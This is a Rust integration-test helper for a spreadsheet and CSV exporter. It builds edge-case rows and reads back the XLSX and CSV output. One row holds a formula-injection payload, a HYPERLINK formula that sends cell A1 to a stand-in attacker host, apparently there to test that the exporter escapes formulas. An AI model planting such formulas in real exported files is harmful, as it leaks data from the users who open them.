//! Shared by the integration tests: a typical mixed row set and readers for what was written.
#![allow(dead_code)] // Each test binary uses a different part.

use std::io::{Cursor, Read};

use calamine::{Data, Range, Reader, Xlsx};
use chrono::{NaiveDate, NaiveDateTime};
use orbita_domain::org::Locale;
use orbita_domain::validation::{Currency, Money};
use orbita_export::{Cell, Column, ColumnKind, ExportWriter, Format};
use rust_decimal::Decimal;

pub fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).expect("valid date")
}

pub fn at(y: i32, m: u32, d: u32, h: u32, min: u32, s: u32) -> NaiveDateTime {
    date(y, m, d).and_hms_opt(h, min, s).expect("valid time")
}

pub fn rub(minor: i64) -> Cell {
    Cell::Money(Money::from_minor(minor, Currency::RUB))
}

pub fn text(s: &str) -> Cell {
    Cell::Text(s.to_owned())
}

/// One column of every kind.
pub fn columns() -> Vec<Column> {
    vec![
        Column::new("Компания", ColumnKind::Text),
        Column::new("Сделок", ColumnKind::Integer),
        Column::new("Сумма", ColumnKind::Money),
        Column::new("Конверсия", ColumnKind::Percent).with_width(11.5),
        Column::new("Создана", ColumnKind::Date),
        Column::new("Последнее касание", ColumnKind::DateTime),
    ]
}

pub fn rows() -> Vec<Vec<Cell>> {
    vec![
        vec![
            text("ООО «Ромашка»"),
            Cell::Integer(42),
            rub(150_000_050),
            Cell::Percent(Decimal::new(4235, 4)),
            Cell::Date(date(2025, 12, 31)),
            Cell::DateTime(at(2025, 12, 31, 23, 59, 5)),
        ],
        vec![
            text("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            Cell::Integer(-7),
            Cell::Money(Money::from_minor(7, Currency::USD)),
            Cell::Percent(Decimal::ONE),
            Cell::Date(date(1900, 1, 1)),
            Cell::DateTime(at(2024, 2, 29, 0, 0, 0)),
        ],
        vec![Cell::Empty, Cell::Empty, Cell::Empty, Cell::Empty, Cell::Empty, Cell::Empty],
        vec![
            text("+7 916 123-45-67"),
            Cell::Integer(i64::MAX),
            rub(9_999_999_999_999),
            Cell::Percent(Decimal::new(-5, 3)),
            Cell::Date(date(1899, 12, 31)),
            Cell::DateTime(at(10_000, 1, 1, 12, 0, 0)),
        ],
    ]
}

/// Writes `rows` in `format` into memory.
pub fn export(format: Format, locale: Locale, columns: Vec<Column>, rows: &[Vec<Cell>]) -> Vec<u8> {
    let mut writer =
        ExportWriter::new(format, "Компании", columns, locale, Vec::new()).expect("writer starts");
    for row in rows {
        writer.write_row(row).expect("row written");
    }
    let (written, bytes) = writer.finish_into_inner().expect("finished");
    assert_eq!(written, rows.len() as u64);
    bytes
}

pub struct ReadBack {
    pub sheet_names: Vec<String>,
    pub values: Range<Data>,
    pub formulas: Range<String>,
}

pub fn read_xlsx(bytes: &[u8]) -> ReadBack {
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).expect("valid xlsx");
    let sheet_names = workbook.sheet_names();
    let values = workbook.worksheet_range(&sheet_names[0]).expect("sheet values");
    let formulas = workbook.worksheet_formula(&sheet_names[0]).expect("sheet formulas");
    ReadBack { sheet_names, values, formulas }
}

/// One part of the XLSX zip as text, for what calamine does not read (panes, filter, widths).
pub fn xlsx_part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).expect("xlsx is a zip");
    let mut part = zip.by_name(name).expect("part exists");
    let mut xml = String::new();
    part.read_to_string(&mut xml).expect("utf-8 xml");
    xml
}

/// Parses CSV written by the exporter: checks and strips the BOM, splits with `delimiter`.
pub fn read_csv(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("starts with a UTF-8 BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(delimiter)
        .from_reader(body)
        .records()
        .map(|record| record.expect("valid csv").iter().map(str::to_owned).collect())
        .collect()
}
